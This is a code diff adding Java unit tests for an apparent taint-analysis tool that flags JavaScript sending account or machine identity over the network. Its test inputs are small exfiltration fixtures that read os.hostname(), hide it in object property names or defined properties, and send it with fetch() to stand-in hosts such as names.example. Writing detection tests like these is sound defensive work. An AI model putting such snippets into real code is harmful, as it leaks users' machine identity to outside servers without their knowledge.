@@ -200,4 +200,44 @@ class ListsAndFilesTest {
 
         assertThat(analysis.flowNames()).containsExactly("account-identity -> network-url");
     }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "const kept = { [os.hostname()]: 1 };",
+                "const kept = {}; kept[os.hostname()] = 1;",
+                "const kept = Object.fromEntries([[os.hostname(), 1]]);",
+                "const first = {}; first[os.hostname()] = 1; const kept = { ...first };",
+                "const first = {}; first[os.hostname()] = 1; const kept = Object.keys(first);",
+                "const first = {}, kept = []; first[os.hostname()] = 1; for (const name in first) kept.push(name);"
+            })
+    void dataIsKeptInNamesOfPropertiesToo(String keeping) {
+        Analysis analysis = Analysis.ofActivate(
+                keeping + "fetch('https://names.example/', { method: 'POST', body: JSON.stringify(kept) });");
+
+        assertThat(analysis.flowNames()).containsExactly("account-identity -> network-send");
+    }
+
+    @Test
+    void aValueIsNotTheNameItIsKeptUnder() {
+        Analysis analysis = Analysis.ofActivate("""
+                const ports = {};
+                ports[os.hostname()] = 8080;
+                for (const host in ports) fetch('https://values.example/' + ports[host]);
+                """);
+
+        assertThat(analysis.flowNames()).isEmpty();
+    }
+
+    @Test
+    void aValueThatIsDefinedTakesThePlaceOfAGetter() {
+        Analysis analysis = Analysis.ofActivate("""
+                const kept = {};
+                Object.defineProperty(kept, 'name', { get: () => 'none', configurable: true });
+                Object.defineProperty(kept, 'name', { value: os.hostname() });
+                fetch('https://defined.example/' + kept.name);
+                """);
+
+        assertThat(analysis.flowNames()).containsExactly("account-identity -> network-url");
+    }
 }
